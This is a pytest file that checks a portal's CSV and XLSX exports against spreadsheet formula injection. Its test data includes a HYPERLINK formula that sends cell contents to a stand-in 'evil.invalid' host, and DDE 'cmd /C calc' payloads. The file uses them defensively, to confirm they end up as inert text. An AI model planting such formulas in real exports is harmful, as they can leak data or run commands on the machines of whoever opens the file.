"""Text anyone typed never runs as a formula in a spreadsheet the portal writes (CSV injection).

An applicant named ``=HYPERLINK(…)``, a window renamed ``+SUM(1,1)``, a complaint starting with
``=``, a clerk named ``@SUM(…)``: every CSV shows them with a leading apostrophe (text to Excel
and WPS), every XLSX cell holds them as text.
"""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from portal.core.spreadsheet import inert
from portal.models import Case, Complaint, PortalUser, SubCenter, Window, db
from portal.web.security import ensure_center_admin
from tests.support.world import PASSWORD, csv_rows, signed_in
from tests.test_reports import at, month_of_cases, on  # noqa: F401 - fixture

APPLICANT = '=HYPERLINK("http://evil.invalid/?leak="&A1,"点击查看")'
WINDOW = "+SUM(1,1)"
SUB_CENTER = "-2+3"
COMPLAINT = "=cmd|' /C calc'!A0"
CLERK = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"


@pytest.fixture
def hostile(month_of_cases):  # noqa: F811 - fixture
    with month_of_cases.app_context():
        ensure_center_admin("admin", PASSWORD)
        db.session.scalars(select(Case).where(Case.number == "R-B")).one().applicant_name = APPLICANT
        db.session.scalars(select(Case).where(Case.number == "R-C")).one().applicant_name = TAB
        window = db.session.scalars(select(Window).where(Window.code == "MZ01")).one()
        window.name = WINDOW
        db.session.scalars(select(SubCenter).where(SubCenter.code == "mz")).one().unified_name = SUB_CENTER
        db.session.add(Complaint(window_id=window.id, sub_center_id=window.sub_center_id,
                                 channel="12345热线", content=COMPLAINT, outcome="属实",
                                 recorded_by="test", created_at=at("2026-11-10 09:00")))
        db.session.scalars(select(PortalUser).where(PortalUser.username == "mz-clerk")).one(
        ).first_name = CLERK
        db.session.commit()
    return month_of_cases


def _csv(response) -> list[list[str]]:
    return csv_rows(response)


def _cells(rows: list[list[str]]) -> list[str]:
    return [c for row in rows for c in row]


def _no_live_formula(cells: list[str]) -> None:
    assert cells, "the export is empty"
    for c in cells:
        assert not c.startswith(("=", "+", "@", "\t", "\r")), c
        assert not c.startswith("-") or c.replace(".", "", 1).lstrip("-").rstrip("%").isdigit(), c


@pytest.mark.parametrize(("value", "shown"), [
    (APPLICANT, "'" + APPLICANT), (WINDOW, "'" + WINDOW), ("@x", "'@x"), ("\r=1", "'\r=1"),
    ("-", "'-"), ("-2+3", "'-2+3"),
    ("-6.67", "-6.67"), ("+15.56", "+15.56"), ("-50.0%", "-50.0%"), ("张三", "张三"), ("", ""),
    (None, None), (-3, -3), ("a=b", "a=b"),
])
def test_inert_quotes_what_would_start_a_formula_and_keeps_numbers(value, shown) -> None:
    assert inert(value) == shown


def test_the_case_list_csv_shows_applicant_names_as_text(hostile) -> None:
    rows = _csv(signed_in(hostile, "mz-manager").get("/cases/export.csv"))
    names = {r[0]: r[4] for r in rows[1:]}
    assert names["R-B"] == "'" + APPLICANT and names["R-C"] == "'" + TAB
    assert {r[3] for r in rows[1:] if r[0] == "R-A"} == {f"MZ01 {WINDOW}"}  # not at a cell's start
    _no_live_formula(_cells(rows))


def test_the_user_lists_csv_shows_names_as_text(hostile) -> None:
    clerks = _csv(signed_in(hostile, "mz-manager").get("/clerks/export.csv"))
    assert "'" + CLERK in _cells(clerks)
    _no_live_formula(_cells(clerks))
    users = _csv(signed_in(hostile, "admin").get("/users/export.csv"))
    assert "'" + CLERK in _cells(users)
    _no_live_formula(_cells(users))


def test_the_assessment_and_report_csvs_show_names_as_text(hostile, monkeypatch) -> None:
    on(monkeypatch, "2026-12-05")
    auditor = signed_in(hostile, "center-auditor")
    ranking = _csv(auditor.get("/assessment/export.csv?month=2026-11"))
    assert "'" + SUB_CENTER in _cells(ranking)
    _no_live_formula(_cells(ranking))
    report = _csv(auditor.get("/reports/monthly?month=2026-11&format=csv"))
    assert "'" + SUB_CENTER in _cells(report)
    _no_live_formula(_cells(report))


def test_the_assessment_workbook_holds_typed_text_as_text(hostile, monkeypatch) -> None:
    on(monkeypatch, "2026-12-05")
    response = signed_in(hostile, "center-auditor").get("/assessment/export.xlsx?month=2026-11")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells}
    assert f"MZ01 {WINDOW}" in texts and SUB_CENTER in texts  # exactly as typed, read as text
    assert any(str(t).startswith(COMPLAINT) for t in texts)  # the complaint, as evidence
    assert any(str(t).startswith(f"R-B {APPLICANT}") for t in texts)
